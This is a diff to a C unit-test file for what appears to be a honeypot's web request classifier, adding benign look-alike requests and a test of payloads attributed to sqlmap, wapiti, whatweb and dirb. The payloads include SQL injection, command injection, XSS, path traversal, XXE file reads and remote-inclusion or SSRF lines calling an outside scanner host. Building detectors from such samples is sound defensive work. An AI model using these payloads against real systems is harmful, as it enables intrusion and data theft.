@@ -456,6 +456,21 @@ static void test_benign(void **state)
         "POST /settings HTTP/1.1\r\nHost: app.example.com\r\nNext-Action: 7f3a9c2e1b\r\nContent-Type: "
         "text/plain;charset=UTF-8\r\n\r\n[{\"name\":\"alice\",\"notify\":true}]",
         "GET /cgi-bin/run?cmd=status&id=42 HTTP/1.1\r\nHost: a.example\r\n\r\n",
+        /* text that looks like what the scanner rules were widened for (SQL words, quotes and
+         * parentheses, a semicolon before a word, a line break, HTML, data: and redirect URLs) */
+        "GET /search?q=%28select+one+from+the+list%29+rock+and+roll&sort=order+by+price HTTP/1.1\r\n"
+        "Host: www.example.com\r\nUser-Agent: Mozilla/5.0\r\n\r\n",
+        "GET /search?q=tired%3B+sleep+8+hours%3B+env+vars&page=2+or+3 HTTP/1.1\r\nHost: www.example.com\r\n\r\n",
+        "GET /search?q=wapiti+elk+antlers&case=when+closed HTTP/1.1\r\nHost: www.example.com\r\n\r\n",
+        "GET /page?env&debug&id HTTP/1.1\r\nHost: www.example.com\r\n\r\n",
+        "POST /api/comments HTTP/1.1\r\nHost: www.example.com\r\nContent-Type: application/json\r\n\r\n"
+        "{\"text\":\"He said \\\"it's 'fine'\\\" (really...); I'd 'quote' him, \\\"no\\\".\",\"event\":\"onSuccess\"}",
+        "POST /submit HTTP/1.1\r\nHost: www.example.com\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n"
+        "body=%3Cp%3EHello+%3Cb%3Eworld%3C%2Fb%3E%2C+see+%3Ca+href%3D%22https%3A%2F%2Fx.example%2F%22%3Ethis%3C%2Fa%3E%3C%2Fp%3E"
+        "&text=Line+one%0D%0ANote%3A+bring+snacks&avatar=data%3Aimage%2Fpng%3Bbase64%2CiVBORw0KGgoAAAANSUhEUg%3D%3D",
+        "GET /oauth/authorize?client_id=abc&redirect_uri=https%3A%2F%2Fapp.example.com%2Fcallback&state=x HTTP/1.1\r\n"
+        "Host: login.example.com\r\nReferer: https://app.example.com/order?id=5\r\n\r\n",
+        "GET /contact?msg=Hello%0D%0AThanks%2C+Bob HTTP/1.1\r\nHost: www.example.com\r\n\r\n",
     };
     for (size_t i = 0; i < sizeof(reqs) / sizeof(reqs[0]); i++) {
         struct hp_webclass w;
@@ -465,6 +480,66 @@ static void test_benign(void **state)
             fail();
         }
         assert_null(w.owasp_iot);
+    }
+}
+
+/* What Debian's web scanners send (sqlmap 1.7, wapiti 3.0, whatweb, dirb), one request per payload
+ * family; the integration case http_real_scanners_classified runs the tools themselves. */
+static void test_scanner_payloads(void **state)
+{
+    static const struct { const char *req, *cls; } t[] = {
+        /* sqlmap: heuristic, boolean, error, UNION, stacked, time-based, inline */
+        { "GET /?id=1%28.%28.%27%28%28%29%22%28 HTTP/1.1\r\nUser-Agent: Mozilla/5.0\r\n\r\n", "sqli" },
+        { "GET /?id=1%27WjJTSX%3C%27%22%3EJshpVj HTTP/1.1\r\n\r\n", "xss" },
+        { "GET /?id=1%20AND%208654%3D5604 HTTP/1.1\r\n\r\n", "sqli" },
+        { "GET /?id=1%29%20AND%207037%3D1928%20AND%20%284139%3D4139 HTTP/1.1\r\n\r\n", "sqli" },
+        { "GET /?id=1%20AND%201415%3DCAST%28%28CHR%28113%29%7C%7CCHR%28106%29%29%20AS%20NUMERIC%29 HTTP/1.1\r\n\r\n", "sqli" },
+        { "GET /?id=1%20AND%208939%20IN%20%28SELECT%20%28CHAR%28113%29%2BCHAR%28106%29%29%29 HTTP/1.1\r\n\r\n", "sqli" },
+        { "GET /?id=1%27%20ORDER%20BY%201--%20uQTC HTTP/1.1\r\n\r\n", "sqli" },
+        { "GET /?id=1%3BSELECT%20DBMS_PIPE.RECEIVE_MESSAGE%28CHR%2872%29%2C1%29%20FROM%20DUAL-- HTTP/1.1\r\n\r\n", "sqli" },
+        { "GET /?id=1%29%3BSELECT%20COUNT%28%2A%29%20FROM%20GENERATE_SERIES%281%2C1000000%29-- HTTP/1.1\r\n\r\n", "sqli" },
+        { "GET /?name=abc%27%20HAVING%206902%3D3565%20AND%20%27fByf%27%20LIKE%20%27fByf HTTP/1.1\r\n\r\n", "sqli" },
+        { "GET / HTTP/1.1\r\nUser-Agent: -9885)) OR 1061=(SELECT (CASE WHEN (1061=4974) THEN 1061 ELSE "
+          "(SELECT 4974 UNION SELECT 5050) END))-- kCbG\r\n\r\n", "sqli" },
+        /* wapiti */
+        { "GET /s.php?q=test%C2%BF%27%22%28 HTTP/1.1\r\n\r\n", "sqli" },
+        { "GET /s.php?q=%27%29%29%2F%2A%2A%2For%2F%2A%2A%2Fsleep%283%29%3D%27 HTTP/1.1\r\n\r\n", "sqli" },
+        { "GET /s.php?q=%3Bwaitfor%2F%2A%2A%2Fdelay%2F%2A%2A%2F%270%3A0%3A3%27--1 HTTP/1.1\r\n\r\n", "sqli" },
+        { "GET /s.php?q=%27%3Bd%3Dnew%20Date%28%29%3Bdo%7Bcd%3Dnew%20Date%28%29%3B%7Dwhile%28cd-d%3C10000%29%3B%2F%2F HTTP/1.1\r\n\r\n", "sqli" },
+        { "GET /s.php?q=%7Cenv HTTP/1.1\r\n\r\n", "command-injection" },
+        { "GET /s.php?q=test%0Aenv%3B HTTP/1.1\r\n\r\n", "command-injection" },
+        { "GET /s.php?q=a%60sleep%2060%60 HTTP/1.1\r\n\r\n", "command-injection" },
+        { "GET /s.php?q=%26ping%20-n%2025%20127.0.0.1%26 HTTP/1.1\r\n\r\n", "command-injection" },
+        { "GET /s.php?q=%27.exit%28md5%28%27w4p1t1_md5%27%29%29%3B%2F%2F HTTP/1.1\r\n\r\n", "rce" },
+        { "GET /s.php?q=data%3A%3Bbase64%2CPD9waHAgZWNobyAndzRwMXQxJzsgPz4%3D HTTP/1.1\r\n\r\n", "lfi" },
+        { "GET /s.php?q=....%2F%2F....%2F%2F....%2F%2Fetc%2Fservices HTTP/1.1\r\n\r\n", "path-traversal" },
+        { "GET /s.php?q=C%3A%2FWindows%2FSystem32%2Fdrivers%2Fetc%2Fservices HTTP/1.1\r\n\r\n", "lfi" },
+        { "GET /s.php?q=s.php%3A%3A%24DATA HTTP/1.1\r\n\r\n", "lfi" },
+        { "GET /s.php?q=s.php%00 HTTP/1.1\r\n\r\n", "lfi" },
+        { "GET /s.php?q=https%3A%2F%2Fwapiti3.ovh%2Fe.php%00 HTTP/1.1\r\n\r\n", "rfi" },
+        { "GET /s.php?q=http%253A%2F%2Fwww.google.fr%250D%250Awapiti%253A%25203.0.4%2520version HTTP/1.1\r\n\r\n", "xss" },
+        { "GET /s.php?q=https%3A%2F%2Fwapiti3.ovh%2Fssrf%2Fu5to15%2F1%2F71%2F HTTP/1.1\r\n\r\n", "ssrf" },
+        { "GET /s.php?q=https%3A%2F%2Fopenbugbounty.org%2F HTTP/1.1\r\n\r\n", "ssrf" },
+        { "POST /s.php HTTP/1.1\r\nContent-Type: text/xml\r\n\r\n<?xml version=\"1.0\"?><!DOCTYPE foo[<!ELEMENT foo ANY>"
+          "<!ENTITY xxe SYSTEM \"file:///etc/networks\">]><foo>&xxe;</foo>", "lfi" },
+        { "POST /s.php HTTP/1.1\r\nContent-Type: text/xml\r\n\r\n<?xml version=\"1.0\"?>\n<!DOCTYPE foo [\n"
+          "<!ENTITY % remote SYSTEM \"https://wapiti3.ovh/dtd/x/1/71/linux.dtd\">\n%remote; ]>", "ssrf" },
+        { "GET /s.php?q=%3CSvG%2FoNloAd%3Dalert%28%2Fw1%2F%29%3E HTTP/1.1\r\n\r\n", "xss" },
+        { "GET /s.php?q=%3Cdetails%20open%20ontoggle%3Dconfirm%28%2Fw1%2F%29%3E HTTP/1.1\r\n\r\n", "xss" },
+        { "GET /s.php?q=%22autofocus%20href%20onfocus%3D%28%28x%29%3D%3E%28confirm%29%28x%29%29 HTTP/1.1\r\n\r\n", "xss" },
+        /* whatweb and dirb */
+        { "GET / HTTP/1.1\r\nUser-Agent: WhatWeb/0.5.5\r\n\r\n", "scanner" },
+        { "GET /randomfile1 HTTP/1.1\r\nUser-Agent: Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)\r\n\r\n", "scanner" },
+        { "GET /admin/frand2.php HTTP/1.1\r\n\r\n", "scanner" },
+    };
+    for (size_t i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
+        struct hp_webclass w;
+        classify_str(t[i].req, &w);
+        if (!has_class(&w, t[i].cls)) {
+            fprintf(stderr, "want class %s\n", t[i].cls);
+            dump(t[i].req, &w);
+            fail();
+        }
     }
 }
 
@@ -701,6 +776,7 @@ int main(void)
     const struct CMUnitTest tests[] = {
         cmocka_unit_test(test_corpus),
         cmocka_unit_test(test_benign),
+        cmocka_unit_test(test_scanner_payloads),
         cmocka_unit_test(test_put_jsp_by_product),
         cmocka_unit_test(test_commands_hg532),
         cmocka_unit_test(test_commands_ifs),
